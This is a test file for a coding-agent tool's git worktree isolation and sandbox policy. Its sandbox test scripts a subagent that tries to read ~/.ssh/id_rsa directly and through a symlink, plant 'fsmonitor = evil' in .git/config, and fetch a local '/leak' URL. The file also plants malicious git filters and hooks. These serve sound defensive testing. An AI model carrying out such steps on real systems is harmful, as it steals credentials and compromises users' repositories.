// Worktrees on the compiled binary in real git repositories: the task tool's isolated subagents
// (their changes come back as one patch, or not at all), `omp worktree` and `--worktree` sessions.
import { describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { agentTestFile, modelRequests, runAgent, toolResultsOf, workspace } from "../support/agent-harness.ts";
import { runOmp } from "../support/omp.ts";
import { plantGitConfig } from "../support/planted-git-config.ts";
import { tempDir } from "../support/temp.ts";

const standin = await agentTestFile();
const env = () => ({ ANTHROPIC_BASE_URL: standin.url, ANTHROPIC_API_KEY: `omptest_ant_${crypto.randomUUID().replaceAll("-", "")}` });
const MODEL = "anthropic/claude-opus-5-5";
const BUGGY = "add() {\n  echo $(( $1 - $2 ))\n}\n";
const FIXED = "add() {\n  echo $(( $1 + $2 ))\n}\n";

function git(cwd: string, ...args: string[]): string {
  const result = Bun.spawnSync(["git", ...args], { cwd, env: { PATH: process.env.PATH, HOME: cwd, GIT_CONFIG_NOSYSTEM: "1" } });
  return result.stdout.toString();
}

const resultTexts = (requestIndex: number, before: number) =>
  toolResultsOf("anthropic-messages", modelRequests(standin)[before + requestIndex]!.body)
    .map((r) => r.text)
    .join("\n");

describe("isolated tasks", () => {
  test("a subagent with isolated: true edits its own worktree of the current files; the main tree is untouched until its patch is applied", async () => {
    const { home, repo } = workspace();
    writeFileSync(join(repo, "notes.txt"), "work in progress\n");
    standin.setScript([
      { toolCalls: [{ id: "t1", name: "task", arguments: { subagent_type: "general-purpose", description: "fix add", prompt: "fix add()", isolated: true } }] },
      { toolCalls: [{ id: "e1", name: "edit", arguments: { path: "src/math.sh", edits: [{ oldText: "$1 - $2", newText: "$1 + $2" }] } }] },
      { toolCalls: [{ id: "b1", name: "bash", arguments: { command: `pwd; cat notes.txt; cat ${repo}/src/math.sh` } }] },
      { text: "Fixed add() in my worktree." },
      { text: "The subagent fixed add()." },
    ]);
    const before = modelRequests(standin).length;
    const run = await runAgent(["-p", "--model", MODEL, "fix add in isolation"], { home, cwd: repo, env: env() });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain("The subagent fixed add().");
    // Inside the subagent: its own folder, the user's uncommitted file there, the main tree still as it was.
    const seen = resultTexts(3, before);
    expect(seen).toContain(join(home, ".omp", "wt"));
    expect(seen).toContain("work in progress");
    expect(seen).toContain("$1 - $2");
    // Back in the parent: the patch applied, reported, the worktree gone, the user's index untouched.
    expect(resultTexts(4, before)).toContain("[isolation] Its changes were applied here (1 file(s)): src/math.sh");
    expect(readFileSync(join(repo, "src/math.sh"), "utf8")).toBe(FIXED);
    expect(readFileSync(join(repo, "notes.txt"), "utf8")).toBe("work in progress\n");
    expect(git(repo, "diff", "--cached", "--name-only")).toBe("");
    expect(git(repo, "worktree", "list", "--porcelain").match(/^worktree /gm)!.length).toBe(1);
  });

  test("a repository configured to run programs (content filters, hooks, fsmonitor, signing) runs none of them while an isolated task forks, works and comes back", async () => {
    const { home, repo } = workspace();
    writeFileSync(join(repo, "notes.txt"), "work in progress\n");
    writeFileSync(join(repo, ".gitattributes"), "* filter=evil\n");
    const marker = join(tempDir("omp-wt-marker-"), "ran.txt");
    plantGitConfig(repo, marker);
    standin.setScript([
      { toolCalls: [{ id: "t1", name: "task", arguments: { subagent_type: "general-purpose", description: "fix add", prompt: "fix add()", isolated: true } }] },
      { toolCalls: [{ id: "e1", name: "edit", arguments: { path: "src/math.sh", edits: [{ oldText: "$1 - $2", newText: "$1 + $2" }] } }] },
      { toolCalls: [{ id: "b1", name: "bash", arguments: { command: "echo more >> notes.txt" } }] },
      { text: "Fixed add() in my worktree." },
      { text: "The subagent fixed add()." },
    ]);
    const before = modelRequests(standin).length;
    const run = await runAgent(["-p", "--model", MODEL, "fix add in isolation"], { home, cwd: repo, env: env() });
    expect(run.code).toBe(0);
    expect(resultTexts(4, before)).toContain("[isolation] Its changes were applied here (2 file(s))");
    expect(readFileSync(join(repo, "src/math.sh"), "utf8")).toBe(FIXED);
    expect(readFileSync(join(repo, "notes.txt"), "utf8")).toBe("work in progress\nmore\n");
    expect(existsSync(marker) ? readFileSync(marker, "utf8") : "").toBe("");
  });

  test("a patch that conflicts with the main tree is not applied at all: saved, reported, its worktree kept", async () => {
    const { home, repo } = workspace();
    standin.setScript([
      { toolCalls: [{ id: "t1", name: "task", arguments: { subagent_type: "general-purpose", description: "fix add", prompt: "fix add()", isolated: true } }] },
      { toolCalls: [{ id: "e1", name: "edit", arguments: { path: "src/math.sh", edits: [{ oldText: "$1 - $2", newText: "$1 + $2" }] } }] },
      // Meanwhile the same line changes in the main tree.
      { toolCalls: [{ id: "b1", name: "bash", arguments: { command: `printf 'add() {\\n  echo $(( $1 * $2 ))\\n}\\n' > ${repo}/src/math.sh` } }] },
      { text: "Done." },
      { text: "It conflicted." },
    ]);
    const before = modelRequests(standin).length;
    const run = await runAgent(["-p", "--model", MODEL, "fix add in isolation"], { home, cwd: repo, env: env() });
    expect(run.code).toBe(0);
    const report = resultTexts(4, before);
    expect(report).toContain("[isolation] Its changes were NOT applied");
    const patchFile = /The patch is (\S+\.patch);/.exec(report)![1]!;
    expect(readFileSync(patchFile, "utf8")).toContain("+  echo $(( $1 + $2 ))");
    expect(readFileSync(join(repo, "src/math.sh"), "utf8")).toBe("add() {\n  echo $(( $1 * $2 ))\n}\n");
    const kept = /its worktree stays at (\S+) /.exec(report)![1]!;
    expect(readFileSync(join(kept, "src/math.sh"), "utf8")).toBe(FIXED);
  });
});

describe("an isolated task goes through the session's sandbox policy", () => {
  test("in its worktree it cannot read ~/.ssh (directly or through a planted link), write the repository's .git/config, or fetch from an unnamed host", async () => {
    const { home, repo } = workspace();
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_rsa"), "SECRET-ISOLATED-KEY\n");
    const hits: string[] = [];
    const server = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: (request) => (hits.push(new URL(request.url).pathname), new Response("page")) });
    try {
      standin.setScript([
        { toolCalls: [{ id: "t1", name: "task", arguments: { subagent_type: "general-purpose", description: "probe", prompt: "probe", isolated: true } }] },
        { toolCalls: [{ id: "r1", name: "read", arguments: { path: "~/.ssh/id_rsa" } }] },
        { toolCalls: [{ id: "b1", name: "bash", arguments: { command: `ln -s ${join(home, ".ssh", "id_rsa")} k; cat k; echo '[core]' >> ${join(repo, ".git", "config")}; echo done` } }] },
        { toolCalls: [{ id: "r2", name: "read", arguments: { path: "k" } }] },
        { toolCalls: [{ id: "w1", name: "write", arguments: { path: ".git/config", content: "[core]\n\tfsmonitor = evil\n" } }] },
        { toolCalls: [{ id: "f1", name: "web_fetch", arguments: { url: `http://127.0.0.1:${server.port}/leak?k=x` } }] },
        { text: "Probed." },
        { text: "The subagent probed." },
      ]);
      const before = modelRequests(standin).length;
      const gitConfig = readFileSync(join(repo, ".git", "config"), "utf8");
      const run = await runAgent(["-p", "--model", MODEL, "probe in isolation"], { home, cwd: repo, env: env() });
      expect(run.code).toBe(0);
      const wire = modelRequests(standin).slice(before).map((request) => JSON.stringify(request.body)).join("\n");
      expect(wire).not.toContain("SECRET-ISOLATED-KEY");
      expect(wire).toContain("deny-list");
      expect(readFileSync(join(repo, ".git", "config"), "utf8")).toBe(gitConfig);
      expect(hits).toEqual([]);
    } finally {
      server.stop(true);
    }
  });
});

describe("omp worktree and --worktree", () => {
  test("a --worktree session works in its own checkout; omp worktree lists it and merge brings its work back", async () => {
    const { home, repo } = workspace();
    standin.setScript([{ toolCalls: [{ id: "e1", name: "edit", arguments: { path: "src/math.sh", edits: [{ oldText: "$1 - $2", newText: "$1 + $2" }] } }] }, { text: "Fixed." }]);
    const run = await runAgent(["-p", "--model", MODEL, "--worktree", "fix-add", "fix add"], { home, cwd: repo, env: env() });
    expect(run.code).toBe(0);
    expect(run.stderr).toContain("working in the worktree fix-add");
    expect(run.stderr).toContain("kept the worktree fix-add");
    expect(readFileSync(join(repo, "src/math.sh"), "utf8")).toBe(BUGGY);

    const listed = JSON.parse((await runOmp(["worktree", "list", "--json"], { home, cwd: repo })).stdout);
    expect(listed).toHaveLength(1);
    expect(listed[0]).toMatchObject({ name: "fix-add", branch: "omp/fix-add", dirty: 1, ahead: 0 });
    expect(readFileSync(join(listed[0].path, "src/math.sh"), "utf8")).toBe(FIXED);

    const merged = await runOmp(["wt", "merge", "fix-add"], { home, cwd: repo });
    expect(merged.code).toBe(0);
    expect(merged.stdout).toContain("1 file(s) changed here, uncommitted");
    expect(readFileSync(join(repo, "src/math.sh"), "utf8")).toBe(FIXED);
    expect(existsSync(listed[0].path)).toBe(false);
    expect(JSON.parse((await runOmp(["worktree", "list", "--json"], { home, cwd: repo })).stdout)).toEqual([]);
  });

  test("new, remove and clear; a session that changed nothing leaves no worktree; bad names and merges are refused clearly", async () => {
    const { home, repo } = workspace();
    const made = await runOmp(["worktree", "new", "spike"], { home, cwd: repo });
    expect(made.code).toBe(0);
    const path = made.stdout.trim();
    expect(readFileSync(join(path, "src/math.sh"), "utf8")).toBe(BUGGY);
    writeFileSync(join(path, "extra.txt"), "x\n");
    const refused = await runOmp(["worktree", "remove", "spike"], { home, cwd: repo });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain("1 uncommitted change(s)");
    expect((await runOmp(["worktree", "remove", "spike", "--force"], { home, cwd: repo })).code).toBe(0);
    expect(existsSync(path)).toBe(false);

    standin.setScript([{ text: "Nothing to do." }]);
    const idle = await runAgent(["-p", "--model", MODEL, "-w", "idle", "look"], { home, cwd: repo, env: env() });
    expect(idle.code).toBe(0);
    expect(idle.stderr).toContain("removed the worktree idle: nothing changed in it");
    expect(readdirSync(join(home, ".omp", "wt")).flatMap((project) => readdirSync(join(home, ".omp", "wt", project)))).toEqual([]);

    const bad = await runOmp(["worktree", "new", "../escape"], { home, cwd: repo });
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain("use letters, digits");
    const missing = await runOmp(["worktree", "merge", "nope"], { home, cwd: repo });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain("no worktree named nope");
  });
});
